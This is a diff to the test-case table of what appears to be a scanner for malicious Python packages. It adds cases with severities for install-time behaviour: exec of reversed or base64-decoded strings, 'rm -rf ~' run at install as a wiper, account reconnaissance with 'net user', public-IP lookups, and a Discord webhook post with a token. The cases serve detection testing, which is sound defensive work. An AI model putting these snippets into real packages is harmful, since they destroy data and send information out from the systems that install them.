@@ -48,6 +48,13 @@ CASES = [
     (setup_py("b = getattr(__builtins__, 'ev' + 'al')\nb(''.join(chr(c) for c in [112, 114, 105]))\n"),
      "code.decode-exec", C, "chr-join into eval fetched through builtins"),
     (setup_py(f"exec('{PAYLOAD}'[::-1])\n"), "code.decode-exec", C, "reversed string executed"),
+    (setup_py(f"P = '{PAYLOAD}'\nexec(P[::-1])\n"), "code.decode-exec", C,
+     "a reversed module-level literal executed"),
+    (setup_py("import sys\nexec(sys.stdin.read()[::-1])\n"), "code.decode-exec", C,
+     "a reversal handed straight to exec"),
+    ({"demo/repl.py": f"def loop(lines):\n    last = lines[::-1]\n    text = last[0]\n"
+                      f"    banner = '{PAYLOAD}'\n    return eval(text), banner\n"},
+     "code.decode-exec", None, "FP regression: a list reversed in a REPL that evaluates input"),
     ({"demo/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
      "code.decode-exec", C, "decode->exec in a package __init__ runs on import"),
     ({"demo/util.py": f"import base64\ndef f():\n    exec(base64.b64decode('{PAYLOAD}'))\n"},
@@ -142,10 +149,22 @@ CASES = [
      "code.process-spawn", H, "powershell with a list of flags added"),
     (setup_py("import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\n"
               "subprocess.Popen([os.path.join(here, 'bin', 'svc.exe'), '--install'])\n"),
-     "code.process-spawn", M, "a program shipped in the tree, run at install: named by its last piece"),
+     "code.process-spawn", L, "a program shipped in the tree, run at install: named by its last "
+     "piece, low alone (a bundled binary it names is raised to high)"),
     (setup_py("import subprocess\nfrom pathlib import Path\n"
               "subprocess.Popen([Path(__file__).parent / 'bin' / 'agent'])\n"),
-     "code.process-spawn", M, "the same, joined with pathlib's /"),
+     "code.process-spawn", L, "the same, joined with pathlib's /"),
+    (setup_py("import subprocess\nsubprocess.check_output(['hostname'])\n"), "code.process-spawn",
+     M, "reconnaissance at install time"),
+    (setup_py("import os\nos.system('net user')\n"), "code.process-spawn", M,
+     "reconnaissance of Windows accounts"),
+    (setup_py("import os\nos.system('rm -rf ~')\n"), "code.process-spawn", H, "a wiper at install"),
+    (setup_py("import os\nos.system('rm -rf build dist')\n"), "code.process-spawn", L,
+     "a clean step removes build output: low"),
+    (setup_py("import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n"),
+     "code.process-spawn", L, "FP regression: the upload-command template"),
+    (setup_py("import subprocess\nsubprocess.check_call(['pnpm', 'run', 'build'])\n"),
+     "code.process-spawn", L, "FP regression: a frontend build at install"),
     (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
               "subprocess.check_call([os.path.join(here, 'configure'), '--quiet'])\n"),
      "code.process-spawn", None, "benign: an in-tree configure script named by os.path.join"),
@@ -236,7 +255,21 @@ CASES = [
     ({"demo/tests/test_url.py": "import socket, subprocess\ndef test_v6():\n"
                                 "    u = 'ws://[2a03:4000:1:2::3]/r'\n"
                                 "    socket.create_connection(('h', 1))\n"},
-     "code.shady-url", L, "FP regression: an IPv6 literal in a test next to socket code"),
+     "code.shady-url", None, "FP regression: an IPv6 literal in a test next to socket code: a "
+     "weak receiver in code run on demand, and tests run only on request"),
+    ({"demo/net.py": "import requests\ndef public_ip():\n"
+                     "    return requests.get('https://api.ipify.org').text\n"},
+     "code.shady-url", L, "FP regression: a network tool asking its public IP when called"),
+    ({"demo/cli.py": "import requests\ndef run(port):\n"
+                     "    return requests.get('http://93.184.216.34:31778/run/%d' % port)\n"},
+     "code.shady-url", L, "FP regression: an internal server's raw IP in a CLI command"),
+    (setup_py("import requests\nip = requests.get('https://api.ipify.org').text\n"),
+     "code.shady-url", H, "asking the public IP at install time"),
+    ({"demo/__init__.py": "import requests\nip = requests.get('https://ipinfo.io/json').json()\n"},
+     "code.shady-url", M, "asking the public IP on import"),
+    ({"demo/notify.py": "import requests\ndef tell(text):\n    requests.post('https://discord.com/api/"
+                        "webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyz0123456789', json={'c': text})\n"},
+     "code.shady-url", M, "a webhook with its token next to a send, even on demand"),
     # ---- invisible unicode
     ({"demo/__init__.py": "access = 'user'\nif access != 'none\u202e\u2066':\n    pass\n"},
      "code.invisible-unicode", M, "bidi controls left open inside a string: Trojan Source"),
